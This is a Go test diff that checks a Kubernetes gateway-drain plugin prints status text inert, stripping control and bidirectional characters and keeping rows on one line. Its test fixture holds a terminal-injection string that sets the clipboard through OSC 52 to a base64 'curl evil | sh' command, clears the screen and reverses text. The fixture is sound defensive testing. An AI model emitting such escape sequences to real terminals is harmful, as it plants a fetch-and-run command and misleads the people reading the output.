@@ -5,6 +5,8 @@ import (
 	"strings"
 	"testing"
 	"time"
+	"unicode"
+	"unicode/utf8"
 
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 
@@ -132,4 +134,39 @@ func hasPrefix(got, want []string) bool {
 		}
 	}
 	return true
+}
+
+// hostile is text a hostile gateway can get into a status: it sets the
+// admin's clipboard (OSC 52), clears the screen, breaks the table's row,
+// and reverses what follows it (a bidirectional override).
+const hostile = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J\x1b[H\r\ntab\there\u202edesrever\x9b31m\u009b2J\x7f"
+
+// Gateway-controlled text is printed inert: the table the plugin redraws
+// carries no byte a terminal acts on but its own line ends (issue 23, item
+// 10), and each row stays one line.
+func TestHostileTextIsPrintedInert(t *testing.T) {
+	gwd := drain()
+	for i := range gwd.Status.Conditions {
+		gwd.Status.Conditions[i].Message = "waiting for gw-0 (Draining: " + hostile + ")"
+	}
+	targets := []drainv1.Target{{PodName: "gw-0", State: drainv1.TargetDraining, GatewayState: hostile, Message: "it reports " + hostile}}
+	var b bytes.Buffer
+	if err := Drain(&b, gwd, targets, now); err != nil {
+		t.Fatal(err)
+	}
+	if err := Drains(&b, []drainv1.GatewayDrain{*gwd}, true, now); err != nil {
+		t.Fatal(err)
+	}
+	out := b.String()
+	if i := strings.IndexFunc(out, func(r rune) bool { return r != '\n' && unsafeRune(r) }); i >= 0 || !utf8.ValidString(out) {
+		t.Errorf("invalid UTF-8, or a control character at %d of\n%q", i, out)
+	}
+	if lines := strings.Count(out, "\n"); lines != 9 {
+		t.Errorf("%d lines, want 9 (a hostile message must not add any):\n%s", lines, out)
+	}
+}
+
+// unsafeRune reports the characters a terminal may act on.
+func unsafeRune(r rune) bool {
+	return unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r)
 }
